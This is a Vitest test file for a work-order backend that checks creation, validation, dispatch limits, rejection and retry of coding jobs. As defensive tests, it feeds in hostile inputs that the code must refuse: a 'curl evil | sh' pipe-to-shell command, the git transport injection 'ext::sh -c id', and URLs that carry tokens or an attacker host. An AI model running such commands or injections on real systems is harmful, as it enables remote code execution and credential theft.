/**
 * workOrders: createFromMessage, listBySession, get (public); submitAsOperator, getAsOperator,
 * listQueued, listDispatchable, getForJob, markDispatched, reject, retry (internal).
 * Who may call what: auth.test.ts.
 */
import { describe, expect, test, vi } from "vitest";
import { api, internal } from "./_generated/api";
import type { Id } from "./_generated/dataModel";
import { MAX_CHECKS, MAX_PROMPT_CHARS } from "./lib/contract";
import { CONVERSATION_LIMIT, CONVERSATION_TEXT_CHARS } from "./workOrders";
import {
  asUser,
  countRows,
  expectConvexError,
  newTest,
  register,
  REPO,
  seedMessage,
  seedRun,
  seedWorkOrder,
  startArgs,
  type T,
  useFixedClock,
  userIdOf,
} from "./test.setup";

const NOW_PLUS = 1_700_000_090_000;

useFixedClock();

async function getOrder(t: T, id: Id<"workflow_requests">) {
  return await t.query(internal.workOrders.getAsOperator, { workflowRequestId: id });
}

/** Counts of everything an order's creation writes. */
async function written(t: T) {
  return {
    sessions: await countRows(t, "chat_sessions"),
    messages: await countRows(t, "chat_messages"),
    orders: await countRows(t, "workflow_requests"),
  };
}

describe("workOrders:createFromMessage", () => {
  test("creates a queued order for the caller, naming the registered repository", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, messageId, user } = await seedMessage(t);
    vi.setSystemTime(1_700_000_050_000);
    const id = await user.mutation(api.workOrders.createFromMessage, {
      sessionId,
      triggerMessageId: messageId,
      summary: "Fix the flaky test",
      repo: REPO,
      branchHint: "codex/flaky",
      baseBranch: "main",
    });
    const doc = await user.query(api.workOrders.get, { workflowRequestId: id });
    expect(doc).toMatchObject({
      sessionId,
      userId: userIdOf("user-1"),
      triggerMessageId: messageId,
      summary: "Fix the flaky test",
      repo: REPO,
      branchHint: "codex/flaky",
      baseBranch: "main",
      status: "queued",
      createdAt: 1_700_000_050_000,
      updatedAt: 1_700_000_050_000,
    });
    expect(doc.checks).toBeUndefined(); // a chat order carries no commands
    expect(doc.temporalWorkflowId).toBeUndefined();
    expect(doc.parentWorkOrderId).toBeUndefined();
  });

  test("a chat order cannot carry commands: `checks` is refused by the validator", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, messageId, user } = await seedMessage(t);
    await expect(
      user.mutation(api.workOrders.createFromMessage, {
        sessionId,
        triggerMessageId: messageId,
        summary: "s",
        repo: REPO,
        // @ts-expect-error checks come from the registry, never from the chat
        checks: ["curl evil | sh"],
      }),
    ).rejects.toThrow(/Validator error/);
    expect(await countRows(t, "workflow_requests")).toBe(0);
  });

  test("an unregistered repository is FORBIDDEN, names `jangar repos add`, writes nothing", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, messageId, user } = await seedMessage(t);
    const before = await written(t);
    for (const repo of [
      "https://github.com/someone/else.git",
      "/etc",
      "file:///srv/git/app.git",
      "https://evil.example/proompteng/lab.git",
    ]) {
      const err = await expectConvexError(
        user.mutation(api.workOrders.createFromMessage, {
          sessionId,
          triggerMessageId: messageId,
          summary: "s",
          repo,
        }),
        "FORBIDDEN",
      );
      expect(err.message).toContain(`jangar repos add ${repo}`);
    }
    // A location no job accepts is never registered either; it is not echoed (it may hold a
    // credential).
    for (const repo of ["relative/x", "https://ghp_secret@github.com/proompteng/lab.git"]) {
      const err = await expectConvexError(
        user.mutation(api.workOrders.createFromMessage, {
          sessionId,
          triggerMessageId: messageId,
          summary: "s",
          repo,
        }),
        "FORBIDDEN",
      );
      expect(err.message).toContain("jangar repos add <url>");
      expect(err.message).not.toContain(repo);
    }
    expect(await written(t)).toEqual(before);
  });

  test("another spelling of a registered URL finds it; the order stores the registered URL", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, user } = await seedMessage(t);
    for (const spelling of [
      "https://GITHUB.com/proompteng/lab.git",
      "https://github.com/proompteng/lab",
      "HTTPS://github.com/proompteng/lab/",
    ]) {
      const messageId = await user.mutation(api.threads.append, { sessionId, content: spelling });
      const id = await user.mutation(api.workOrders.createFromMessage, {
        sessionId,
        triggerMessageId: messageId,
        summary: "s",
        repo: spelling,
      });
      expect((await getOrder(t, id)).repo).toBe(REPO);
    }
  });

  test("one order per trigger message: a second call returns the first id", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, messageId, user } = await seedMessage(t);
    const args = { sessionId, triggerMessageId: messageId, summary: "s", repo: REPO };
    const first = await user.mutation(api.workOrders.createFromMessage, args);
    const second = await user.mutation(api.workOrders.createFromMessage, {
      ...args,
      summary: "other",
    });
    expect(second).toBe(first);
    expect(await countRows(t, "workflow_requests")).toBe(1);
  });

  test("a message from another of the caller's sessions is INVALID_ARGUMENT", async () => {
    const t = newTest();
    await register(t);
    const { messageId, user } = await seedMessage(t);
    const otherSession = await user.mutation(api.sessions.create, { title: "other" });
    const err = await expectConvexError(
      user.mutation(api.workOrders.createFromMessage, {
        sessionId: otherSession,
        triggerMessageId: messageId,
        summary: "s",
        repo: REPO,
      }),
      "INVALID_ARGUMENT",
    );
    expect(err.message).toContain("belongs to session");
    expect(await countRows(t, "workflow_requests")).toBe(0);
  });

  test("another user's message, a missing session or message is NOT_FOUND", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, messageId, user } = await seedMessage(t);
    const stranger = await seedMessage(t, "theirs", "user-2");
    await expectConvexError(
      user.mutation(api.workOrders.createFromMessage, {
        sessionId,
        triggerMessageId: stranger.messageId,
        summary: "s",
        repo: REPO,
      }),
      "NOT_FOUND",
    );
    const args = { sessionId, triggerMessageId: messageId, summary: "s", repo: REPO };
    await t.run((ctx) => ctx.db.delete("chat_messages", messageId));
    await expectConvexError(user.mutation(api.workOrders.createFromMessage, args), "NOT_FOUND");
    await t.run((ctx) => ctx.db.delete("chat_sessions", sessionId));
    await expectConvexError(user.mutation(api.workOrders.createFromMessage, args), "NOT_FOUND");
    expect(await countRows(t, "workflow_requests")).toBe(0);
  });

  test("every rule the job's input enforces is checked at creation; nothing is written", async () => {
    const t = newTest();
    await register(t, REPO, { baseBranch: "trunk" });
    const { sessionId, messageId, user } = await seedMessage(t);
    const base = { sessionId, triggerMessageId: messageId, summary: "s", repo: REPO };
    const bad = [
      { ...base, summary: "" },
      { ...base, summary: "nul\u0000inside" },
      { ...base, branchHint: "" },
      { ...base, branchHint: "a..b" },
      { ...base, branchHint: "-x" },
      { ...base, branchHint: "x".repeat(201) },
      { ...base, baseBranch: "has space" },
      { ...base, baseBranch: "HEAD" },
      { ...base, branchHint: "same", baseBranch: "same" },
      { ...base, branchHint: "trunk" }, // the registry's base branch
    ];
    for (const args of bad) {
      await expectConvexError(
        user.mutation(api.workOrders.createFromMessage, args),
        "INVALID_ARGUMENT",
      );
    }
    for (const content of ["nul\u0000in the prompt", "p".repeat(MAX_PROMPT_CHARS + 1)]) {
      const triggerMessageId = await user.mutation(api.threads.append, { sessionId, content });
      const err = await expectConvexError(
        user.mutation(api.workOrders.createFromMessage, { ...base, triggerMessageId }),
        "INVALID_ARGUMENT",
      );
      expect(err.message).toMatch(/^the prompt \(the trigger message's content\) /);
    }
    expect(await countRows(t, "workflow_requests")).toBe(0);
  });

  test("a prompt of exactly MAX_PROMPT_CHARS characters (counted as Python does) is accepted", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, user } = await seedMessage(t);
    // 🙂 is two UTF-16 units but one character for Python's len() and for the worker.
    const content = "🙂".repeat(MAX_PROMPT_CHARS / 4) + "p".repeat((MAX_PROMPT_CHARS * 3) / 4);
    const triggerMessageId = await user.mutation(api.threads.append, { sessionId, content });
    await user.mutation(api.workOrders.createFromMessage, {
      sessionId,
      triggerMessageId,
      summary: "s",
      repo: REPO,
    });
  });

  test("a follow-up names the session's newest order for the repository as its parent", async () => {
    const t = newTest();
    await register(t);
    await register(t, "https://github.com/proompteng/other.git");
    const { sessionId, user } = await seedMessage(t);
    const create = async (repo: string, extra: { freshStart?: boolean } = {}) => {
      const triggerMessageId = await user.mutation(api.threads.append, {
        sessionId,
        content: `on ${repo}`,
      });
      vi.setSystemTime(Date.now() + 1000);
      return await user.mutation(api.workOrders.createFromMessage, {
        sessionId,
        triggerMessageId,
        summary: "s",
        repo,
        ...extra,
      });
    };
    const first = await create(REPO);
    const other = await create("https://github.com/proompteng/other.git");
    const second = await create(REPO);
    const fresh = await create(REPO, { freshStart: true });
    const third = await create(REPO);
    expect((await getOrder(t, first)).parentWorkOrderId).toBeUndefined();
    expect((await getOrder(t, other)).parentWorkOrderId).toBeUndefined();
    expect((await getOrder(t, second)).parentWorkOrderId).toBe(first);
    expect(await getOrder(t, fresh)).toMatchObject({ freshStart: true });
    expect((await getOrder(t, fresh)).parentWorkOrderId).toBeUndefined();
    expect((await getOrder(t, third)).parentWorkOrderId).toBe(fresh);
  });
});

describe("workOrders:listBySession and get", () => {
  test("newest first, bounded by limit, only that session", async () => {
    const t = newTest();
    await register(t);
    const { sessionId, user } = await seedMessage(t);
    const ids = [];
    for (let i = 0; i < 4; i++) {
      vi.setSystemTime(1_700_000_000_000 + i * 1000);
      const messageId = await user.mutation(api.threads.append, {
        sessionId,
        content: `task ${i}`,
      });
      ids.push(
        await user.mutation(api.workOrders.createFromMessage, {
          sessionId,
          triggerMessageId: messageId,
          summary: `task ${i}`,
          repo: REPO,
        }),
      );
    }
    await seedWorkOrder(t);
    const all = await user.query(api.workOrders.listBySession, { sessionId });
    expect(all.map((w) => w._id)).toEqual([...ids].reverse());
    const two = await user.query(api.workOrders.listBySession, { sessionId, limit: 2 });
    expect(two.map((w) => w._id)).toEqual([ids[3], ids[2]]);
    await expectConvexError(
      user.query(api.workOrders.listBySession, { sessionId, limit: 101 }),
      "INVALID_ARGUMENT",
    );
  });

  test("get of a missing order, or of no id at all, is NOT_FOUND", async () => {
    const t = newTest();
    const { workOrderId, user } = await seedWorkOrder(t);
    await t.run((ctx) => ctx.db.delete("workflow_requests", workOrderId));
    await expectConvexError(
      user.query(api.workOrders.get, { workflowRequestId: workOrderId }),
      "NOT_FOUND",
    );
    await expectConvexError(
      user.query(api.workOrders.get, { workflowRequestId: "nope" }),
      "NOT_FOUND",
    );
  });
});

describe("workOrders:submitAsOperator", () => {
  const base = {
    userId: "operator-ada",
    title: "Add notes",
    repo: "/srv/git/app.git",
    prompt: "Add a NOTES.md",
  };

  test("session, message and order in one call; checks stored on the order only", async () => {
    const t = newTest();
    vi.setSystemTime(NOW_PLUS);
    const ids = await t.mutation(internal.workOrders.submitAsOperator, {
      ...base,
      branchHint: "notes",
      baseBranch: "main",
      checks: ["test -f NOTES.md"],
    });
    const [session, message] = await t.run(async (ctx) => [
      await ctx.db.get("chat_sessions", ids.sessionId),
      await ctx.db.get("chat_messages", ids.messageId),
    ]);
    expect(session).toMatchObject({
      userId: "operator-ada",
      title: "Add notes",
      updatedAt: NOW_PLUS,
    });
    expect(message).toMatchObject({
      sessionId: ids.sessionId,
      role: "user",
      content: "Add a NOTES.md",
    });
    expect(await getOrder(t, ids.workOrderId)).toMatchObject({
      sessionId: ids.sessionId,
      triggerMessageId: ids.messageId,
      userId: "operator-ada",
      summary: "Add notes",
      repo: "/srv/git/app.git",
      branchHint: "notes",
      baseBranch: "main",
      checks: ["test -f NOTES.md"],
      status: "queued",
    });
    expect(await countRows(t, "repositories")).toBe(0); // registers nothing
  });

  test("a bad argument writes nothing: no session, no message, no order", async () => {
    const t = newTest();
    const { sessionId } = await seedMessage(t);
    const before = await written(t);
    const refused: [Record<string, unknown>, string][] = [
      [{ checks: Array.from({ length: MAX_CHECKS + 1 }, (_, i) => `c${i}`) }, "INVALID_ARGUMENT"],
      [{ checks: ["ok", "  "] }, "INVALID_ARGUMENT"],
      [{ checks: ["a\u0000b"] }, "INVALID_ARGUMENT"],
      [{ branchHint: "a..b" }, "INVALID_ARGUMENT"],
      [{ baseBranch: "x", branchHint: "x" }, "INVALID_ARGUMENT"],
      [{ prompt: "bad\u0000prompt" }, "INVALID_ARGUMENT"],
      [{ prompt: " " }, "INVALID_ARGUMENT"],
      [{ prompt: "p".repeat(MAX_PROMPT_CHARS + 1) }, "INVALID_ARGUMENT"],
      [{ repo: "relative/x" }, "INVALID_ARGUMENT"],
      [{ repo: "ext::sh -c id" }, "INVALID_ARGUMENT"],
      [{ repo: "fd::3" }, "INVALID_ARGUMENT"],
      [{ repo: "https://token@github.com/a/b" }, "INVALID_ARGUMENT"],
      [{ repo: "https://github.com/a/b?token=x" }, "INVALID_ARGUMENT"],
      [{ repo: "https://github.com/../b" }, "INVALID_ARGUMENT"],
      [{ title: "" }, "INVALID_ARGUMENT"],
      [{ userId: " " }, "INVALID_ARGUMENT"],
      [{ sessionId: "not-a-session" }, "NOT_FOUND"],
      [{ sessionId }, "INVALID_ARGUMENT"], // another user's session
    ];
    for (const [extra, code] of refused) {
      await expectConvexError(
        t.mutation(internal.workOrders.submitAsOperator, { ...base, ...extra }),
        code as "INVALID_ARGUMENT",
      );
    }
    expect(await written(t)).toEqual(before);
  });

  test("into the user's existing session; a registered repository's URL is used", async () => {
    const t = newTest();
    await register(t);
    const { sessionId } = await seedMessage(t);
    const ids = await t.mutation(internal.workOrders.submitAsOperator, {
      ...base,
      userId: userIdOf("user-1"),
      repo: "https://github.com/proompteng/lab",
      sessionId,
    });
    expect(ids.sessionId).toBe(sessionId);
    expect(await getOrder(t, ids.workOrderId)).toMatchObject({
      repo: REPO,
      userId: userIdOf("user-1"),
    });
    // The session's owner sees it, with its message.
    const thread = await asUser(t, "user-1").query(api.sessions.getWithThreads, { sessionId });
    expect(thread.workOrders.map((w) => w._id)).toEqual([ids.workOrderId]);
    expect(thread.messages.at(-1)?.content).toBe("Add a NOTES.md");
  });
});

describe("workOrders:listQueued", () => {
  test("queued, not yet dispatched, oldest first, with the prompt and the registry's checks", async () => {
    const t = newTest();
    const orders: Awaited<ReturnType<typeof seedWorkOrder>>[] = [];
    for (let i = 0; i < 5; i++) {
      vi.setSystemTime(1_700_000_000_000 + i * 1000);
      orders.push(await seedWorkOrder(t, `prompt ${i}`));
    }
    // 0: dispatched; 1: running (started); 2: canceled; 3, 4: waiting.
    await t.mutation(internal.workOrders.markDispatched, {
      workflowRequestId: orders[0].workOrderId,
      temporalWorkflowId: "wf-0",
    });
    await t.run(async (ctx) => {
      await ctx.db.patch("workflow_requests", orders[1].workOrderId, { status: "running" });
      await ctx.db.patch("workflow_requests", orders[2].workOrderId, { status: "canceled" });
    });
    const queued = await t.query(internal.workOrders.listQueued, {});
    expect(queued.map((w) => w._id)).toEqual([orders[3].workOrderId, orders[4].workOrderId]);
    expect(queued.map((w) => w.prompt)).toEqual(["prompt 3", "prompt 4"]);
    expect(queued[0]).toMatchObject({
      status: "queued",
      summary: "Fix the flaky test",
      checks: ["pytest -q"],
    });
  });

  test("an operator order's own checks and base branch win over the registry's", async () => {
    const t = newTest();
    await register(t, REPO, { checks: ["registry check"], baseBranch: "trunk" });
    const own = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t",
      repo: REPO,
      prompt: "p",
      checks: ["own check"],
      baseBranch: "main",
    });
    const inherited = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t",
      repo: REPO,
      prompt: "p",
    });
    const unregistered = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t",
      repo: "/srv/git/app.git",
      prompt: "p",
    });
    const byId = new Map(
      (await t.query(internal.workOrders.listQueued, {})).map((o) => [o._id, o]),
    );
    expect(byId.get(own.workOrderId)).toMatchObject({ checks: ["own check"], baseBranch: "main" });
    expect(byId.get(inherited.workOrderId)).toMatchObject({
      checks: ["registry check"],
      baseBranch: "trunk",
    });
    expect(byId.get(unregistered.workOrderId)?.checks).toBeUndefined();
    // The stored order is unchanged.
    expect((await getOrder(t, inherited.workOrderId)).checks).toBeUndefined();
  });

  test("bounded: default 20, limit honoured, at most 100", async () => {
    const t = newTest();
    await t.run(async (ctx) => {
      const sessionId = await ctx.db.insert("chat_sessions", {
        userId: "u",
        title: "bulk",
        createdAt: 0,
        updatedAt: 0,
      });
      for (let i = 0; i < 25; i++) {
        const triggerMessageId = await ctx.db.insert("chat_messages", {
          sessionId,
          role: "user",
          content: `p${i}`,
          createdAt: i,
        });
        await ctx.db.insert("workflow_requests", {
          sessionId,
          userId: "u",
          triggerMessageId,
          summary: `s${i}`,
          repo: "https://github.com/o/r",
          status: "queued",
          createdAt: 1000 - i,
          updatedAt: 1000 - i,
        });
      }
    });
    const page = await t.query(internal.workOrders.listQueued, {});
    expect(page).toHaveLength(20);
    expect(page[0].prompt).toBe("p24");
    expect(
      (await t.query(internal.workOrders.listQueued, { limit: 3 })).map((w) => w.prompt),
    ).toEqual(["p24", "p23", "p22"]);
    await expectConvexError(
      t.query(internal.workOrders.listQueued, { limit: 0 }),
      "INVALID_ARGUMENT",
    );
    await expectConvexError(
      t.query(internal.workOrders.listQueued, { limit: 101 }),
      "INVALID_ARGUMENT",
    );
  });
});

describe("workOrders:listDispatchable", () => {
  /** An operator order of `user` for `repo`, created at a distinct time. */
  async function order(t: T, user: string, repo = REPO, extra: { sessionId?: string } = {}) {
    vi.setSystemTime(Date.now() + 1000);
    const ids = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: user,
      title: "t",
      repo,
      prompt: `${user} on ${repo}`,
      ...extra,
    });
    return ids;
  }

  async function dispatchable(t: T, args: Record<string, number> = {}) {
    return (await t.query(internal.workOrders.listDispatchable, args)).map((o) => o._id);
  }

  test("without limits it is listQueued, with the same shape", async () => {
    const t = newTest();
    await register(t);
    const a = await order(t, "ann");
    const b = await order(t, "bob", "/srv/git/x.git");
    expect(await dispatchable(t)).toEqual([a.workOrderId, b.workOrderId]);
    expect(await t.query(internal.workOrders.listDispatchable, {})).toEqual(
      await t.query(internal.workOrders.listQueued, {}),
    );
  });

  test("maxPerUser counts running and dispatched orders, and this batch's picks", async () => {
    const t = newTest();
    const ann = [await order(t, "ann"), await order(t, "ann"), await order(t, "ann")];
    const bob = await order(t, "bob", "/srv/git/x.git");
    expect(await dispatchable(t, { maxPerUser: 2 })).toEqual([
      ann[0].workOrderId,
      ann[1].workOrderId,
      bob.workOrderId,
    ]);
    // ann's first is dispatched (not started), her second running: her third waits.
    await t.mutation(internal.workOrders.markDispatched, {
      workflowRequestId: ann[0].workOrderId,
      temporalWorkflowId: "wf-a0",
    });
    await t.mutation(internal.runs.start, startArgs(ann[1].workOrderId));
    expect(await dispatchable(t, { maxPerUser: 2 })).toEqual([bob.workOrderId]);
    expect(await dispatchable(t, { maxPerUser: 3 })).toEqual([ann[2].workOrderId, bob.workOrderId]);
    // Once one of hers ends, the third may start.
    const [run] = await t.query(internal.runs.listAll, {});
    await t.mutation(internal.runs.updateStatus, { runId: run._id, status: "succeeded" });
    expect(await dispatchable(t, { maxPerUser: 2 })).toEqual([ann[2].workOrderId, bob.workOrderId]);
  });

  test("maxPerRepo, and the registry's maxConcurrentRuns overriding it", async () => {
    const t = newTest();
    await t.mutation(internal.repositories.add, { url: REPO, maxConcurrentRuns: 1 });
    const lab = [await order(t, "ann"), await order(t, "bob")];
    const other = [
      await order(t, "ann", "/srv/git/x.git"),
      await order(t, "bob", "/srv/git/x.git"),
    ];
    expect(await dispatchable(t, { maxPerRepo: 5 })).toEqual([
      lab[0].workOrderId,
      other[0].workOrderId,
      other[1].workOrderId,
    ]);
    expect(await dispatchable(t, { maxPerRepo: 1 })).toEqual([
      lab[0].workOrderId,
      other[0].workOrderId,
    ]);
    expect(await dispatchable(t, { limit: 1 })).toEqual([lab[0].workOrderId]);
  });

  test("an order whose parent has not ended waits for it", async () => {
    const t = newTest();
    const first = await order(t, "ann");
    const second = await order(t, "ann", REPO, { sessionId: first.sessionId });
    expect((await getOrder(t, second.workOrderId)).parentWorkOrderId).toBe(first.workOrderId);
    expect(await dispatchable(t)).toEqual([first.workOrderId]);
    const runId = await t.mutation(internal.runs.start, startArgs(first.workOrderId));
    expect(await dispatchable(t)).toEqual([]);
    await t.mutation(internal.runs.updateStatus, { runId, status: "failed" });
    expect(await dispatchable(t)).toEqual([second.workOrderId]);
  });

  test("limits must be whole numbers of at least 1", async () => {
    const t = newTest();
    for (const args of [{ maxPerUser: 0 }, { maxPerRepo: 1.5 }, { limit: 101 }]) {
      await expectConvexError(
        t.query(internal.workOrders.listDispatchable, args),
        "INVALID_ARGUMENT",
      );
    }
  });
});

describe("workOrders:getForJob", () => {
  test("the order as the job runs it, its registry entry, parent and conversation", async () => {
    const t = newTest();
    await register(t, REPO, { checks: ["make test"], baseBranch: "trunk" });
    const { sessionId, user } = await seedMessage(t);
    const chain: Id<"workflow_requests">[] = [];
    for (let i = 0; i < CONVERSATION_LIMIT + 2; i++) {
      vi.setSystemTime(Date.now() + 1000);
      const triggerMessageId = await user.mutation(api.threads.append, {
        sessionId,
        content: i === 0 ? "x".repeat(CONVERSATION_TEXT_CHARS + 10) : `prompt ${i}`,
      });
      const id = await user.mutation(api.workOrders.createFromMessage, {
        sessionId,
        triggerMessageId,
        summary: `step ${i}`,
        repo: REPO,
      });
      chain.push(id);
      if (i < CONVERSATION_LIMIT + 1) {
        const runId = await t.mutation(internal.runs.start, {
          ...startArgs(id, `r${i}`),
          branch: `codex/${i}`,
        });
        await t.mutation(internal.runs.updateStatus, {
          runId,
          status: "succeeded",
          commitSha: "0123456789abcdef0123456789abcdef01234567",
          prUrl: "https://github.com/proompteng/lab/pull/7",
          prNumber: 7,
          finalMessage: `done ${i}`,
        });
      }
    }
    const last = chain[chain.length - 1];
    const job = await t.query(internal.workOrders.getForJob, { workflowRequestId: last });
    expect(job.order).toMatchObject({ _id: last, checks: ["make test"], baseBranch: "trunk" });
    expect(job.prompt).toBe(`prompt ${CONVERSATION_LIMIT + 1}`);
    expect(job.repository).toMatchObject({ url: REPO, checks: ["make test"] });
    expect(job.parent).toEqual({
      workOrderId: chain[chain.length - 2],
      branch: `codex/${CONVERSATION_LIMIT}`,
      commitSha: "0123456789abcdef0123456789abcdef01234567",
      prUrl: "https://github.com/proompteng/lab/pull/7",
      prNumber: 7,
    });
    expect(job.conversation).toHaveLength(CONVERSATION_LIMIT);
    // Oldest first: the nearest CONVERSATION_LIMIT ancestors (the first order is left out).
    expect(job.conversation[0]).toEqual({ prompt: "prompt 1", finalMessage: "done 1" });
    expect(job.conversation.at(-1)).toEqual({
      prompt: `prompt ${CONVERSATION_LIMIT}`,
      finalMessage: `done ${CONVERSATION_LIMIT}`,
    });
    const second = await t.query(internal.workOrders.getForJob, { workflowRequestId: chain[1] });
    expect(second.conversation).toEqual([
      { prompt: "x".repeat(CONVERSATION_TEXT_CHARS), finalMessage: "done 0" },
    ]);
    const first = await t.query(internal.workOrders.getForJob, { workflowRequestId: chain[0] });
    expect(first.parent).toBeNull();
    expect(first.conversation).toEqual([]);
  });

  test("a parent without a run gives its branch hint or codex/<id>; unknown ids NOT_FOUND", async () => {
    const t = newTest();
    const first = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t",
      repo: "/srv/git/app.git",
      prompt: "p",
    });
    const second = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t",
      repo: "/srv/git/app.git",
      prompt: "q",
      sessionId: first.sessionId,
    });
    const job = await t.query(internal.workOrders.getForJob, {
      workflowRequestId: second.workOrderId,
    });
    expect(job.repository).toBeNull();
    expect(job.parent).toEqual({
      workOrderId: first.workOrderId,
      branch: `codex/${first.workOrderId}`,
    });
    expect(job.conversation).toEqual([{ prompt: "p", finalMessage: null }]);
    await expectConvexError(
      t.query(internal.workOrders.getForJob, { workflowRequestId: "nope" }),
      "NOT_FOUND",
    );
  });
});

describe("workOrders:markDispatched", () => {
  test("links once; the same id again is changed:false; another id is a CONFLICT", async () => {
    const t = newTest();
    const { workOrderId } = await seedWorkOrder(t);
    const args = {
      workflowRequestId: workOrderId,
      temporalWorkflowId: `work-order-${workOrderId}`,
    };
    expect(await t.mutation(internal.workOrders.markDispatched, args)).toEqual({ changed: true });
    expect(await t.mutation(internal.workOrders.markDispatched, args)).toEqual({ changed: false });
    await expectConvexError(
      t.mutation(internal.workOrders.markDispatched, { ...args, temporalWorkflowId: "other" }),
      "CONFLICT",
    );
    const doc = await getOrder(t, workOrderId);
    expect(doc.temporalWorkflowId).toBe(`work-order-${workOrderId}`);
    expect(doc.status).toBe("queued");
  });

  test("after runs:start linked the order, marking the same workflow is a no-op", async () => {
    const t = newTest();
    const { workOrderId } = await seedWorkOrder(t);
    await t.mutation(internal.runs.start, startArgs(workOrderId));
    expect(
      await t.mutation(internal.workOrders.markDispatched, {
        workflowRequestId: workOrderId,
        temporalWorkflowId: `work-order-${workOrderId}`,
      }),
    ).toEqual({ changed: false });
  });

  test("validation and NOT_FOUND", async () => {
    const t = newTest();
    const { workOrderId } = await seedWorkOrder(t);
    await expectConvexError(
      t.mutation(internal.workOrders.markDispatched, {
        workflowRequestId: workOrderId,
        temporalWorkflowId: "",
      }),
      "INVALID_ARGUMENT",
    );
    await t.run((ctx) => ctx.db.delete("workflow_requests", workOrderId));
    await expectConvexError(
      t.mutation(internal.workOrders.markDispatched, {
        workflowRequestId: workOrderId,
        temporalWorkflowId: "wf",
      }),
      "NOT_FOUND",
    );
  });
});

describe("workOrders:reject", () => {
  test("a queued order becomes failed with the reason and leaves the queue", async () => {
    const t = newTest();
    const { workOrderId } = await seedWorkOrder(t);
    vi.setSystemTime(NOW_PLUS);
    const args = { workflowRequestId: workOrderId, reason: "repo: not a valid repository" };
    expect(await t.mutation(internal.workOrders.reject, args)).toEqual({ changed: true });
    const doc = await getOrder(t, workOrderId);
    expect(doc).toMatchObject({
      status: "failed",
      failureReason: "repo: not a valid repository",
      updatedAt: NOW_PLUS,
    });
    expect(await t.query(internal.workOrders.listQueued, {})).toEqual([]);
    // Again: a no-op that keeps the first reason.
    expect(
      await t.mutation(internal.workOrders.reject, { ...args, reason: "another reason" }),
    ).toEqual({ changed: false });
    expect((await getOrder(t, workOrderId)).failureReason).toBe("repo: not a valid repository");
  });

  test("a finished order cannot be rejected; blank reason and missing order are refused", async () => {
    const t = newTest();
    const { workOrderId } = await seedWorkOrder(t);
    await expectConvexError(
      t.mutation(internal.workOrders.reject, { workflowRequestId: workOrderId, reason: " " }),
      "INVALID_ARGUMENT",
    );
    await t.run((ctx) => ctx.db.patch("workflow_requests", workOrderId, { status: "succeeded" }));
    await expectConvexError(
      t.mutation(internal.workOrders.reject, { workflowRequestId: workOrderId, reason: "bad" }),
      "INVALID_TRANSITION",
    );
    await t.run((ctx) => ctx.db.delete("workflow_requests", workOrderId));
    await expectConvexError(
      t.mutation(internal.workOrders.reject, { workflowRequestId: workOrderId, reason: "bad" }),
      "NOT_FOUND",
    );
  });
});

describe("workOrders:retry", () => {
  test("a new queued order like the run's, triggered by a system message holding the prompt", async () => {
    const t = newTest();
    const { runId, workOrderId, sessionId, user } = await seedRun(t);
    await t.mutation(internal.runs.updateStatus, { runId, status: "failed" });
    vi.setSystemTime(NOW_PLUS);
    const { workOrderId: retried } = await t.mutation(internal.workOrders.retry, { runId });
    expect(retried).not.toBe(workOrderId);
    const original = await getOrder(t, workOrderId);
    const doc = await getOrder(t, retried);
    expect(doc).toMatchObject({
      sessionId,
      userId: original.userId,
      summary: original.summary,
      repo: original.repo,
      status: "queued",
      retryOfWorkOrderId: workOrderId,
      createdAt: NOW_PLUS,
    });
    const message = await t.run((ctx) => ctx.db.get("chat_messages", doc.triggerMessageId));
    expect(message).toMatchObject({
      role: "system",
      content: "fix the flaky test in ci",
      sessionId,
    });
    // The owner sees the retry in the session; the dispatcher sees it queued.
    const thread = await user.query(api.sessions.getWithThreads, { sessionId });
    expect(thread.workOrders.map((w) => w._id)).toContain(retried);
    expect((await t.query(internal.workOrders.listQueued, {})).map((o) => o._id)).toEqual([
      retried,
    ]);
  });

  test("keeps the operator's checks, branches and the original's parent", async () => {
    const t = newTest();
    const first = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t",
      repo: "/srv/git/app.git",
      prompt: "p",
    });
    const second = await t.mutation(internal.workOrders.submitAsOperator, {
      userId: "op",
      title: "t2",
      repo: "/srv/git/app.git",
      prompt: "q",
      sessionId: first.sessionId,
      branchHint: "work",
      baseBranch: "main",
      checks: ["make check"],
    });
    const runId = await t.mutation(internal.runs.start, startArgs(second.workOrderId));
    await t.mutation(internal.runs.updateStatus, { runId, status: "canceled" });
    const { workOrderId } = await t.mutation(internal.workOrders.retry, { runId });
    expect(await getOrder(t, workOrderId)).toMatchObject({
      branchHint: "work",
      baseBranch: "main",
      checks: ["make check"],
      parentWorkOrderId: first.workOrderId,
      retryOfWorkOrderId: second.workOrderId,
    });
  });

  test("a run still running is a CONFLICT; an unknown run NOT_FOUND; nothing is written", async () => {
    const t = newTest();
    const { runId } = await seedRun(t);
    const before = await written(t);
    await expectConvexError(t.mutation(internal.workOrders.retry, { runId }), "CONFLICT");
    await expectConvexError(t.mutation(internal.workOrders.retry, { runId: "nope" }), "NOT_FOUND");
    expect(await written(t)).toEqual(before);
  });
});
